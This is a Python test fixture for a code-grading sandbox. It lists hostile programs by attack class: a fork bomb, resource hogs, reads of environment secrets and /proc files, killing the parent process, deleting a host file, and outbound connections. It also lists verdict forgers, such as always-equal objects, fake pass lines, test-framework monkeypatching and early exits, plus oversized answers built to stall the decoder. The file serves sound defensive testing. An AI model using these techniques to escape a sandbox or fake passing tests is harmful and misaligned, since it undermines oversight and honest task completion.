"""The red-team table: one hostile program per class of attack, and honest programs.

Every hostile program is written so that it scores 1 only if its attack
works: it answers ``add`` correctly only when it escaped (read a host file,
reached the network, found a secret...), and a forger answers wrongly and
tries to make the verdict say "passed" anyway. The tests (``TESTS["add"]``)
are not visible to the programs. Placeholders filled in by the test:
``PORT`` (a loopback listener on the host), ``HOSTDIR`` (a host directory the
program must not reach), ``CANARY`` (a host file it must not touch),
``PROJECT`` (this repository's root), ``SECRET`` (a secret in the caller's
environment).

``kind`` is ``"contain"`` (the sandbox's walls), ``"forge"`` (the verdict)
or ``"decode"`` (the caller: an answer of about 4 MiB built to stall the
trusted side's decoding: nesting, element counts, huge ints, keys that share a
hash, junk lines); forging defences do not depend on namespaces, so those also
run in the weak mode.
"""

from __future__ import annotations

import os
import pathlib


# Used by test_hostile.py, test_code_reward.py and benchmarks/rewards.py: what outlives a call.
def processes_of(uid: int) -> list[int]:
    """Live (non-zombie) processes running as ``uid``."""
    found = []
    for status in pathlib.Path("/proc").glob("[0-9]*/status"):
        try:
            fields = dict(line.split(":", 1) for line in status.read_text().splitlines())
        except (OSError, ValueError):
            continue
        if int(fields["Uid"].split()[0]) == uid and not fields["State"].strip().startswith("Z"):
            found.append(int(status.parent.name))
    return found


def survivors(uid: int, user_namespace: str) -> list[int]:
    """Live processes of a finished run: as root, any of the run's own ``uid``; in any case,
    any in its user namespace (``user:[inode]``); without one (the weak mode of an
    ordinary user, whose uid is the caller's), any sandboxed interpreter of that uid.
    (Marked serial, the tests calling this run while no other sandbox does.)"""
    found = set(processes_of(uid)) if os.geteuid() == 0 else set()
    for pid in processes_of(uid) if os.geteuid() != 0 else []:
        try:
            ns = os.readlink(f"/proc/{pid}/ns/user")
            line = pathlib.Path(f"/proc/{pid}/cmdline").read_bytes()
        except OSError:
            continue
        if (user_namespace and ns == user_namespace) or (
            not user_namespace and b"-I\0-S\0-B\0" in line
        ):
            found.add(pid)
    return sorted(found)


ADD = [
    "assert add(1, 2) == 3",
    "assert add(-1, 1) == 0",
    "assert add(100000000000000000000, 1) == 100000000000000000001",
]
TESTS = {
    "add": ADD,
    "is_prime": {
        "calls": [
            {"function": "is_prime", "args": [7], "expected": True},
            {"function": "is_prime", "args": [9], "expected": False},
            {"function": "is_prime", "args": [2], "expected": True},
        ]
    },
    "sort_pairs": ["assert sort_pairs([(2, 'b'), (1, 'a')]) == [(1, 'a'), (2, 'b')]"],
    "word_count": ["assert word_count('a b a') == {'a': 2, 'b': 1}", "assert word_count('') == {}"],
    "mean": {"fn_name": "mean", "inputs": [[[1, 2, 3]], [[4]]], "outputs": [2.0, 4.0]},
    "close": ["assert math.isclose(third(1), 0.3333333333, rel_tol=1e-6)"],
    "sum_stdin": {"stdio": [["1 2 3\n", "6\n"], ["10 -3\n", "7"]]},
    "echo_upper": {"inputs": ["ab\ncd\n"], "outputs": ["AB\nCD"]},
    # large expected values: an answer of the same length takes the full comparison
    "ones": {
        "calls": [
            {"function": "ones", "args": [130_000], "expected": dict.fromkeys(range(130_000), 1)}
        ]
    },
    "members": {
        "calls": [{"function": "members", "args": [150_000], "expected": set(range(150_000))}]
    },
}

# problem -> (right solution, wrong solution)
HONEST = {
    "add": ("def add(a, b):\n    return a + b\n", "def add(a, b):\n    return a - b\n"),
    "is_prime": (
        "def is_prime(n):\n    return n > 1 and all(n % d for d in range(2, int(n**0.5) + 1))\n",
        "def is_prime(n):\n    return n % 2 == 1\n",
    ),
    "sort_pairs": (
        "def sort_pairs(p):\n    return sorted(p)\n",
        "def sort_pairs(p):\n    return sorted(list(x) for x in p)\n",  # lists, not tuples
    ),
    "word_count": (
        "import collections\ndef word_count(s):\n    return dict(collections.Counter(s.split()))\n",
        "import collections\ndef word_count(s):\n    return collections.Counter(s)\n",  # letters
    ),
    "mean": (
        "def mean(xs):\n    return sum(xs) / len(xs)\n",
        "def mean(xs):\n    return sum(xs) // len(xs) + 0.5\n",
    ),
    "close": ("def third(x):\n    return x / 3\n", "def third(x):\n    return round(x / 3, 2)\n"),
    "sum_stdin": (
        "import sys\nprint(sum(map(int, sys.stdin.read().split())))\nsys.exit(0)\n",
        "print(max(map(int, input().split())))\n",
    ),
    "echo_upper": (
        "import sys\nfor line in sys.stdin.buffer:\n    print(line.decode().strip().upper())\n",
        "import sys\nprint(sys.stdin.read().upper().replace('\\n', ' '))\n",
    ),
}

# ---- right programs: each scores 1 (issue 35) -------------------------------------------
FACTORIAL_2000 = 1
for _k in range(2, 2001):
    FACTORIAL_2000 *= _k  # 5,736 digits: past Python's 4,300-digit int-to-str limit
SUM_STDIO = TESTS["sum_stdin"]
FAST_IO = """import os, sys
class Out:
    def __init__(self):
        self.parts = []
    def write(self, text):
        self.parts.append(text)
    def flush(self):
        os.write(sys.stdout_fd, ''.join(self.parts).encode())
        self.parts = []
sys.stdout_fd = sys.stdout.fileno()
data, chunk = b'', os.read(sys.stdin.fileno(), os.fstat(0).st_size or 1)
while chunk:
    data += chunk
    chunk = os.read(0, 1 << 16)
sys.stdout = Out()
print(sum(map(int, data.split())))
"""
COUNTS = ["assert word_count('a b a') == {'a': 2, 'b': 1}", "assert word_count('') == {}"]
CONSTANTS = [
    "assert modulus() == 10**9 + 7",
    "assert int_max() == 2**31 - 1",
    "assert zeros(5) == [0] * 5",
    "assert negative() == -(3)",
    "assert twice((1, 2)) == (1, 2) * 2",
    "assert power(20000) == 2**20000",  # folded to 6,021 digits
]
# name -> (tests, a right program)
RIGHT: dict[str, tuple[object, str]] = {
    "stdio ends with exit()": (SUM_STDIO, "print(sum(map(int, input().split())))\nexit()\n"),
    "stdio ends with quit(0)": (
        SUM_STDIO,
        "print(sum(map(int, input().split())))\nquit(0)\nprint('never')\n",
    ),
    "stdio reads open(0)": (SUM_STDIO, "print(sum(map(int, open(0).read().split())))\n"),
    "stdio fast I/O on fileno(), fstat and os.read": (SUM_STDIO, FAST_IO),
    "stdio writes with os.write(1, ...)": (
        SUM_STDIO,
        "import os\nos.write(1, b'%d\\n' % sum(map(int, input().split())))\n",
    ),
    "stdio writes sys.stdout.buffer": (
        SUM_STDIO,
        "import sys\nsys.stdout.buffer.write(str(sum(map(int, input().split()))).encode())\n",
    ),
    "returns an int of 5,736 digits": (
        {"calls": [{"function": "fact", "args": [2000], "expected": FACTORIAL_2000}]},
        "import math\ndef fact(n):\n    return math.factorial(n)\n",
    ),
    "takes an int of 5,001 digits": (
        {"calls": [{"function": "inc", "args": [10**5000], "expected": 10**5000 + 1}]},
        "def inc(n):\n    return n + 1\n",
    ),
    "returns a Counter for a dict": (
        COUNTS,
        "import collections\ndef word_count(s):\n    return collections.Counter(s.split())\n",
    ),
    "returns an OrderedDict for a dict": (
        COUNTS,
        (
            "import collections\ndef word_count(s):\n    d = collections.OrderedDict()\n"
            "    for w in sorted(s.split(), reverse=True):\n        d[w] = d.get(w, 0) + 1\n"
            "    return d\n"
        ),
    ),
    "returns a defaultdict for a dict": (
        COUNTS,
        (
            "import collections\ndef word_count(s):\n    d = collections.defaultdict(int)\n"
            "    for w in s.split():\n        d[w] += 1\n    return d\n"
        ),
    ),
    "asserts with constant expressions": (
        CONSTANTS,
        (
            "def modulus():\n    return 1000000007\ndef int_max():\n    return 2147483647\n"
            "def zeros(n):\n    return [0] * n\ndef negative():\n    return -3\n"
            "def twice(t):\n    return t + t\ndef power(n):\n    return 2**n\n"
        ),
    ),
}

# The code reward's limits the hostile table is written against (the suite's and
# benchmarks/rewards.py's): the memory programs hold more than run_memory_mb, each
# process within memory_mb.
LIMITS = {"cpu_s": 1, "wall_s": 1.5, "memory_mb": 256, "file_mb": 4, "processes": 8}
LIMITS["run_memory_mb"] = 512  # the run's bound: less than two processes' address space

WIN = "def add(a, b):\n    return a + b if won else None\n"
# ctypes' raw syscall(2): sc(number, *args) is its return value (-1 when refused).
SYSCALL = (
    "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
    "libc.syscall.restype = ctypes.c_long\n"
    "def sc(*args):\n    return libc.syscall(*[ctypes.c_long(a) if isinstance(a, int) else a "
    "for a in args])\n"
)
WRONG = "def add(a, b):\n    return 0\n"

# name -> (kind, problem, source)
HOSTILE: dict[str, tuple[str, str, str]] = {
    # ---- containment: the sandbox's walls ---------------------------------------------
    "busy loop": ("contain", "add", "def add(a, b):\n    return a + b\nwhile True:\n    pass\n"),
    "sleeps forever": (
        "contain",
        "add",
        "def add(a, b):\n    return a + b\nimport time\ntime.sleep(3600)\n",
    ),
    "fork bomb": (
        "contain",
        "add",
        "import os\nwon = False\nwhile True:\n    try:\n        os.fork()\n"
        "    except OSError:\n        pass\n" + WIN,
    ),
    "allocates 50 GB": (
        "contain",
        "add",
        "try:\n    hog = bytearray(50 * 2**30)\n    won = True\nexcept MemoryError:\n"
        "    won = False\n" + WIN,
    ),
    "writes a 10 GB file": (
        "contain",
        "add",
        "won = False\ntry:\n    with open('big', 'wb') as f:\n        for _ in range(10 * 1024):\n"
        "            f.write(b'0' * 2**20)\n    won = True\nexcept OSError:\n    pass\n" + WIN,
    ),
    "floods stdout with 10 GB": (
        "contain",
        "add",
        "import os\nchunk = b'x' * 2**20\nfor _ in range(10 * 1024):\n    os.write(1, chunk)\n"
        + WRONG,
    ),
    "connects outside": (
        "contain",
        "add",
        "import socket\nwon = False\nfor host in ('1.1.1.1', '8.8.8.8'):\n    try:\n"
        "        socket.create_connection((host, 53), timeout=0.5).close()\n        won = True\n"
        "    except OSError:\n        pass\n" + WIN,
    ),
    "connects to a host loopback port": (
        "contain",
        "add",
        "import socket\ntry:\n    s = socket.create_connection(('127.0.0.1', PORT), timeout=0.5)\n"
        "    s.sendall(b'leak')\n    won = True\nexcept OSError:\n    won = False\n" + WIN,
    ),
    "reads environment secrets": (
        "contain",
        "add",
        "import os\nwon = SECRET in str(dict(os.environ))\n" + WIN,
    ),
    "reads /proc/*/environ": (
        "contain",
        "add",
        "import glob\nwon = False\nfor path in glob.glob('/proc/*/environ'):\n    try:\n"
        "        won = won or SECRET.encode() in open(path, 'rb').read()\n"
        "    except OSError:\n        pass\n" + WIN,
    ),
    "kills its parent and init": (
        "contain",
        "add",
        # Same uid as init in its user namespace: kill() may return 0 (the kernel drops
        # default-action signals to a namespace's init from inside); it wins on an effect.
        "import os, signal, time\nparent = os.getppid()\nfor pid in {parent, 1}:\n"
        "    for sig in (signal.SIGSTOP, signal.SIGINT, signal.SIGTERM, signal.SIGKILL):\n"
        "        try:\n            os.kill(pid, sig)\n        except OSError:\n            pass\n"
        "time.sleep(0.1)\ndef state(pid):\n    try:\n"
        "        return open(f'/proc/{pid}/stat').read().rsplit(')', 1)[1].split()[0]\n"
        "    except OSError:\n        return 'gone'\n"
        "won = any(state(pid) in ('T', 't', 'Z', 'X', 'gone') for pid in {parent, 1})\n" + WIN,
    ),
    "leaves a double-forked daemon": (
        "contain",
        "add",
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        "        time.sleep(3600)\n    os._exit(0)\n" + WRONG,
    ),
    "writes outside the work dir": (
        "contain",
        "add",
        "won = False\nfor path in ('HOSTDIR/escaped', '../rlax-hostile-escaped',\n"
        "             '/usr/lib/rlax-hostile', '/rlax-hostile'):\n    try:\n"
        "        open(path, 'w').write('x')\n        won = won or not path.startswith('..')\n"
        "    except OSError:\n        pass\n" + WIN,
    ),
    "deletes a host file": (
        "contain",
        "add",
        "import os\ntry:\n    os.remove('CANARY')\n    won = True\nexcept OSError:\n"
        "    won = False\n" + WIN,
    ),
    "reads host files and project sources": (
        "contain",
        "add",
        "import os\nwon = any(os.path.exists(p) for p in ('/etc/passwd', '/etc/hostname',\n"
        "    'PROJECT/pyproject.toml', 'CANARY', '/root', '/home', '/work'))\n" + WIN,
    ),
    "lists the root for host paths": (
        "contain",
        "add",
        "import os\nwon = bool({'etc', 'home', 'work', 'root', 'var'} & set(os.listdir('/')))\n"
        + WIN,
    ),
    "finds a host path in /proc": (
        "contain",
        "add",
        "won = False\nfor path in ('/proc/1/cmdline', '/proc/self/mountinfo', '/proc/1/environ'):\n"
        "    try:\n        text = open(path, 'rb').read()\n    except OSError:\n        continue\n"
        "    won = won or any(h in text for h in (b'PROJECT', b'/root', b'.venv', b'site-packages'))\n"
        + WIN,
    ),
    "rewrites the standard library": (
        "contain",
        "add",
        "import json\ntry:\n    open(json.__file__, 'a').write('\\n')\n    won = True\n"
        "except OSError:\n    won = False\n" + WIN,
    ),
    "becomes root": (
        "contain",
        "add",
        "import os\ntry:\n    os.setuid(0)\n    won = True\nexcept OSError:\n    won = False\n"
        + WIN,
    ),
    "reads the supervisor's memory": (
        "contain",
        "add",
        "won = False\ntry:\n    with open('/proc/1/mem', 'rb') as f:\n        won = True\n"
        "except OSError:\n    pass\n" + WIN,
    ),
    "plants symlinks for the cleanup": (
        "contain",
        "add",
        "import os\nfor i, target in enumerate(('/etc', 'CANARY', 'HOSTDIR', '/')):\n"
        "    for place in ('.', '/tmp'):\n        try:\n"
        "            os.symlink(target, f'{place}/rlax-hostile-link{i}')\n"
        "        except OSError:\n            pass\n" + WRONG,
    ),
    # ---- deny by default: kernel interfaces and memory outside the limits (issue 35) ----
    "keeps a secret in the user keyring": (
        "contain",
        "add",
        SYSCALL + "won = False\n"
        "key = sc(248, b'user', b'rlax-hostile', b'3', 3, -4)  # add_key to @u\n"
        "found = sc(250, 10, -4, b'user', b'rlax-hostile', 0)  # keyctl(SEARCH) in @u\n"
        "got = sc(249, b'user', b'rlax-hostile', None, -4)  # request_key\n"
        "won = max(key, found, got) >= 0\n" + WIN,
    ),
    "makes user and other namespaces": (
        "contain",
        "add",
        SYSCALL + "import os\nwon = False\n"
        "for flags in (0x10000000, 0x40000000, 0x20000, 0x10000000 | 0x40000000):\n"
        "    won = won or sc(272, flags) == 0  # unshare\n"
        "pid = sc(56, 0x10000000 | 17, 0, 0, 0, 0)  # clone(CLONE_NEWUSER | SIGCHLD)\n"
        "if pid == 0:\n    os._exit(0)\nwon = won or pid > 0\n"
        "fd = os.open('/proc/self/ns/user', os.O_RDONLY)\n"
        "won = won or sc(308, fd, 0x10000000) == 0  # setns\n" + WIN,
    ),
    "ptraces a sibling": (
        "contain",
        "add",
        SYSCALL + "import os, time\nchild = os.fork()\nif child == 0:\n    time.sleep(5)\n"
        "    os._exit(0)\nwon = sc(101, 16, child, 0, 0) == 0  # PTRACE_ATTACH\n"
        "won = won or sc(101, 0, 0, 0, 0) == 0  # PTRACE_TRACEME\n"
        "local = (ctypes.c_char * 8)()\n"
        "iov = (ctypes.c_void_p * 2)(ctypes.cast(local, ctypes.c_void_p), 8)\n"
        "won = won or sc(310, child, iov, 1, iov, 1, 0) >= 0  # process_vm_readv\n"
        "os.kill(child, 9)\n" + WIN,
    ),
    "loads a BPF program": (
        "contain",
        "add",
        SYSCALL + "attr = (ctypes.c_uint32 * 32)(2, 4, 4, 1)  # BPF_MAP_TYPE_ARRAY\n"
        "won = sc(321, 0, attr, 128) >= 0  # bpf(BPF_MAP_CREATE)\n"
        "won = won or sc(298, attr, 0, -1, -1, 0) >= 0  # perf_event_open\n" + WIN,
    ),
    "holds memory that is not mapped": (
        "contain",
        "add",
        SYSCALL + "import os\nheld, chunk = 0, b'x' * 2**20\n"
        "fd = sc(319, b'hog', 0)  # memfd_create\n"
        "for _ in range(600 if fd >= 0 else 0):\n    held += os.write(fd, chunk)\n"
        "uffd = sc(323, 0)  # userfaultfd\n"
        "for _ in range(6):  # System V segments: held after shmdt, outside the address space\n"
        "    shm = sc(29, 0, 100 * 2**20, 0o1600)\n    at = sc(30, shm, 0, 0) if shm >= 0 else -1\n"
        "    if at not in (-1, 0):\n        ctypes.memset(at, 1, 100 * 2**20)\n"
        "        sc(67, at)\n        held += 100 * 2**20\n"
        "pipes = []\nfor _ in range(24):  # pipe buffers\n    try:\n        r, w = os.pipe()\n"
        "    except OSError:\n        break\n    os.set_blocking(w, False)\n    pipes.append((r, w))\n"
        "    try:\n        while True:\n            held += os.write(w, chunk)\n"
        "    except OSError:\n        pass\n"
        "try:  # the scratch tmpfs\n    with open('/tmp/hog', 'wb') as f:\n"
        "        for _ in range(600):\n            f.write(chunk)\n            held += len(chunk)\n"
        "except OSError:\n    pass\nwon = held >= 600 * 2**20 or uffd >= 0\n" + WIN,
    ),
    "holds memory in many processes": (  # 4 x 230 MB, each under its own 256 MB limit
        "contain",
        "add",
        "import os, select, time\nr, w = os.pipe()\nfor _ in range(4):\n    if os.fork() == 0:\n"
        "        try:\n            hog = b'x' * (230 * 2**20)\n"
        "            os.write(w, b'%d ' % os.getpid())\n"
        "            time.sleep(10)\n        finally:\n            os._exit(0)\n"
        "os.close(w)\nheld, deadline = b'', time.monotonic() + 3.0\n"
        "while len(held.split()) < 4 and time.monotonic() < deadline:\n"
        "    if select.select([r], [], [], 0.05)[0]:\n        got = os.read(r, 64)\n"
        "        if not got:\n            break\n        held += got\n"
        "# a holder the bound killed after it reported holds nothing: count the living\n"
        "alive = [p for p in held.split() if os.waitpid(int(p), os.WNOHANG)[0] == 0]\n"
        "won = len(alive) * 230 > 600  # more than the run's bound, all at once\n" + WIN,
    ),
    # ---- forging: the verdict ---------------------------------------------------------
    "exits 0 before the tests": ("forge", "add", WRONG + "import os\nos._exit(0)\n"),
    "sys.exit inside the function": (
        "forge",
        "add",
        "import sys\ndef add(a, b):\n    sys.exit(0)\n",
    ),
    "prints a fake pass": (
        "forge",
        "add",
        WRONG + "print('passed 3/3')\nprint('All tests passed. OK')\nimport os\nos._exit(0)\n",
    ),
    "writes a fake verdict to the channel": (
        "forge",
        "add",
        WRONG + 'import os\nfor line in (\'{"passed": 3, "total": 3, "failure": ""}\',\n'
        '             \'{"nonce": "", "passed": 3, "total": 3}\', \'{"verdict": "passed"}\'):\n'
        "    os.write(3, line.encode() + b'\\n')\nos._exit(0)\n",
    ),
    "claims more tests than exist": (
        "forge",
        "add",
        "import os\nfor i in range(-5, 50):\n"
        '    os.write(3, (\'{"i": %d, "value": %d}\\n\' % (i, i)).encode())\n' + WRONG,
    ),
    "int subclass equal to everything": (
        "forge",
        "add",
        (
            "class Any(int):\n    def __eq__(self, other):\n        return True\n"
            "    __hash__ = int.__hash__\ndef add(a, b):\n    return Any(0)\n"
        ),
    ),
    "object equal to everything": (
        "forge",
        "add",
        (
            "class Any:\n    def __eq__(self, other):\n        return True\n"
            "    def __ne__(self, other):\n        return False\n    def __hash__(self):\n"
            "        return 0\ndef add(a, b):\n    return Any()\n"
        ),
    ),
    "str and dict subclasses with forged equality": (
        "forge",
        "word_count",
        (
            "class D(dict):\n    __eq__ = lambda self, other: True\n    __hash__ = None\n"
            "def word_count(s):\n    return D()\n"
        ),
    ),
    "a dict subclass whose methods lie about its data": (
        "forge",
        "word_count",
        (
            "class D(dict):\n    def items(self):\n        return iter([('a', 2), ('b', 1)])\n"
            "    def __iter__(self):\n        return iter(['a', 'b'])\n"
            "    def __len__(self):\n        return 2\n"
            "    def __getitem__(self, key):\n        return {'a': 2, 'b': 1}[key]\n"
            "    keys = __iter__\n"
            "def word_count(s):\n    return D(x=0) if s else D(y=0)\n"
        ),
    ),
    "patches json.dumps": (
        "forge",
        "add",
        "import json\n_real = json.dumps\n"
        "def dumps(obj, *a, **k):\n"
        "    return '{\"passed\": 3, \"total\": 3}\\n' + _real({'i': obj.get('i'), 'value': True})\n"
        "json.dumps = dumps\n" + WRONG,
    ),
    "patches builtins type and isinstance": (
        "forge",
        "add",
        (
            "import builtins\nclass Any(int):\n    __eq__ = lambda self, other: True\n"
            "    __hash__ = int.__hash__\n"
            "_type = builtins.type\nbuiltins.type = lambda *a: int if len(a) == 1 and "
            "_type(a[0]) is Any else _type(*a)\nbuiltins.isinstance = lambda o, t: True\n"
            "def add(a, b):\n    return Any(7)\n"
        ),
    ),
    "patches sys and os.write": (
        "forge",
        "add",
        "import os, sys\n_write = os.write\n"
        "os.write = lambda fd, data: _write(fd, data.replace(b'\"value\": 0', b'\"value\": 3'))\n"
        "sys.exit = lambda *a: None\nsys.modules['json'].loads = lambda s: {'passed': 3}\n" + WRONG,
    ),
    "replaces the harness's functions": (
        "forge",
        "add",
        "import __main__, sys\nh = sys.modules['__main__']\n"
        "h._encode = lambda value, depth=0: 3\n"
        "h._first_line = lambda exc: 'passed'\n"
        "h.matches = h.judge = lambda *a, **k: True\n" + WRONG,
    ),
    "digs through the harness's frames": (
        "forge",
        "add",
        (
            "import sys\ndef add(a, b):\n    f = sys._getframe()\n    while f:\n"
            "        for key in ('expected', 'outputs', 'nonce', 'tests', 'job'):\n"
            "            found = f.f_locals.get(key)\n"
            "            if isinstance(found, dict) and 'expected' in str(found):\n"
            "                return found\n        f = f.f_back\n    return None\n"
        ),
    ),
    "reports a pass with the nonce from the harness's frame": (
        "forge",
        "add",
        (
            "import json, os, sys\nf, job = sys._getframe(), {}\nwhile f:\n"
            "    job = job or f.f_locals.get('job') or {}\n    f = f.f_back\n"
            "line = {'nonce': job.get('nonce', ''), 'passed': 3, 'total': 3, 'failure': ''}\n"
            "os.write(3, json.dumps(line).encode() + b'\\n')\nos._exit(0)\n"
        ),
    ),
    "searches gc objects for expected values": (
        "forge",
        "add",
        (
            "import gc\nBIG = 100000000000000000001\ndef add(a, b):\n"
            "    for obj in gc.get_objects():\n"
            "        if isinstance(obj, dict) and 'expected' in obj:\n"
            "            return obj['expected']\n"
            "        if isinstance(obj, (list, tuple)) and BIG in obj:\n"
            "            return BIG\n    return None\n"
        ),
    ),
    "forges from atexit": (
        "forge",
        "add",
        "import atexit, os\ndef forge():\n    for i in range(3):\n"
        '        os.write(3, (\'{"i": %d, "value": true}\\n\' % i).encode())\n'
        '    os.write(3, b\'{"passed": 3, "total": 3}\\n\')\n'
        "atexit.register(forge)\n" + WRONG,
    ),
    "forges from __del__": (
        "forge",
        "add",
        "import os\nclass Ghost:\n    def __del__(self):\n"
        '        os.write(3, b\'{"passed": 3, "total": 3, "failure": ""}\\n\')\n'
        "keep = Ghost()\nimport builtins\nbuiltins.ghost = Ghost()\n" + WRONG,
    ),
    "reads expected outputs from anywhere": (
        "forge",
        "add",
        (
            "import os\nfound = b''\nfor base, dirs, files in os.walk('/'):\n"
            "    dirs[:] = [d for d in dirs if d not in ('proc', 'sys', 'dev', 'usr', 'lib')]\n"
            "    for name in files:\n        try:\n"
            "            found += open(os.path.join(base, name), 'rb').read(100000)\n"
            "        except OSError:\n            pass\nfor fd in (0, 4, 5):\n    try:\n"
            "        found += os.read(fd, 100000)\n    except OSError:\n        pass\n"
            "def add(a, b):\n"
            "    return 100000000000000000001 if b'100000000000000000001' in found else None\n"
        ),
    ),
    "monkeypatches the test framework": (
        "forge",
        "add",
        "import builtins, operator, sys, unittest\n"
        "unittest.TestCase.assertEqual = lambda *a, **k: None\n"
        "operator.eq = lambda a, b: True\nbuiltins.AssertionError = type('Never', (Exception,), {})\n"
        "def tracer(frame, event, arg):\n"
        "    if event == 'return' and 'value' in frame.f_locals:\n"
        "        frame.f_locals['value'] = 3\n    return tracer\nsys.settrace(tracer)\n" + WRONG,
    ),
    "returns an output bomb": (
        "forge",
        "add",
        "def add(a, b):\n    x = []\n    for _ in range(10**6):\n        x = [x]\n    return x\n",
    ),
    "floods the channel": (
        "forge",
        "add",
        "import os\nfor _ in range(64):\n    os.write(3, b'[' * 2**20)\n" + WRONG,
    ),
    "returns NaN and bools": (
        "forge",
        "add",
        "def add(a, b):\n    return float('nan') if a > 0 else False\n",
    ),
    "stdio: prints the expected format, exits early": (
        "forge",
        "sum_stdin",
        "import os\nprint('6')\nos._exit(0)\n",
    ),
    "stdio: patches stdout and sys.exit": (
        "forge",
        "sum_stdin",
        (
            "import sys, os\nclass Out:\n    def write(self, s):\n"
            '        os.write(3, b\'{"passed": 2, "total": 2}\\n\')\n    def flush(self):\n'
            "        pass\nsys.stdout = Out()\nprint('passed')\nsys.stdout.close = None\n"
        ),
    ),
    # ---- decoding: the caller (answers of about 4 MiB) -----------------------------------
    "answers 4 million levels deep": (
        "decode",
        "add",
        "import os\nos.write(3, b'{\"i\": 0, \"value\": ' + b'[' * (4 * 2**20 - 40) + b'\\n')\n"
        + WRONG,
    ),
    "answers with 1.3 million elements": (
        "decode",
        "add",
        "import os\nos.write(3, b'{\"i\": 0, \"value\": [' + b'0, ' * 1_300_000 + b'0]}\\n')\n"
        + WRONG,
    ),
    "answers with a million empty lists": (
        "decode",
        "add",
        "import os\nos.write(3, b'{\"i\": 0, \"value\": [' + b'[], ' * 1_000_000 + b'[]]}\\n')\n"
        + WRONG,
    ),
    "returns 400,000 elements through the harness": (
        "decode",
        "add",
        "def add(a, b):\n    return [a] * 400_000\n",
    ),
    "answers with an int of 3 million digits": (
        "decode",
        "add",
        "def add(a, b):\n    return 2**10_000_000\n",
    ),
    "answers with 4 million decimal digits": (
        "decode",
        "add",
        "import os\nos.write(3, b'{\"i\": 0, \"value\": ' + b'9' * (4 * 2**20 - 40) + b'}\\n')\n"
        + WRONG,
    ),
    "answers with dict keys that share a hash": (
        "decode",
        "ones",
        (
            "import os\nM = 2**61 - 1\n"
            "pairs = ', '.join(f'[{k * M}, 1]' for k in range(130_000))\n"
            'os.write(3, (\'{"i": 0, "value": {"dict": [\' + pairs + \']}}\\n\').encode())\n'
            "def ones(n):\n    return None\n"
        ),
    ),
    "answers with set members that share a hash": (
        "decode",
        "members",
        (
            "import os\nM = 2**61 - 1\n"
            "items = ', '.join(str(k * M) for k in range(150_000))\n"
            'os.write(3, (\'{"i": 0, "value": {"set": [\' + items + \']}}\\n\').encode())\n'
            "def members(n):\n    return None\n"
        ),
    ),
    "floods the channel with junk lines": (
        "decode",
        "add",
        "import os\nos.write(3, b'x\\n' * (2 * 2**20 - 32))\n" + WRONG,
    ),
    "answers after 4 million blank lines": (
        "decode",
        "add",
        "import os\nos.write(3, b'\\n' * (4 * 2**20 - 64))\n"
        'os.write(3, b\'{"i": 0, "value": 3}\\n\')\n' + WRONG,
    ),
}
